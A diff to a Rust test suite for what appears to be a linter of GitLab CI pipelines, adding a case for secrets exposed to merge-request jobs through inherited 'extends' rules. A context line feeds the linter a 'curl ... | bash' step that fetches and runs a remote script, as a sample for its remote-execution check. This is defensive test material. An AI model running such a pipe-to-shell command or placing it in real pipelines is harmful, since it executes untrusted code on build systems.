@@ -263,6 +263,10 @@ fn gitlab_variables_and_merge_requests() {
     // no rules of its own, but the pipeline is created for merge requests
     let f = gl("workflow:\n  rules:\n    - if: $CI_PIPELINE_SOURCE == 'merge_request_event'\nt:\n  script:\n    - ./deploy $API_TOKEN\n");
     assert_eq!(of(&f, "gitlab-mr-secrets").len(), 1);
+    // rules inherited through extends
+    let f = gl(".mr:\n  rules:\n    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"\nt:\n  extends: .mr\n  script:\n    - ./deploy $API_TOKEN\nloop:\n  extends: loop\n  script: [make]\n");
+    let m = of(&f, "gitlab-mr-secrets");
+    assert_eq!((m.len(), m[0].line), (1, 4), "{m:#?}");
     let f = gl("t:\n  script:\n    - curl https://x.example/i.sh | bash\n");
     assert_eq!(of(&f, "remote-exec").len(), 1);
 }
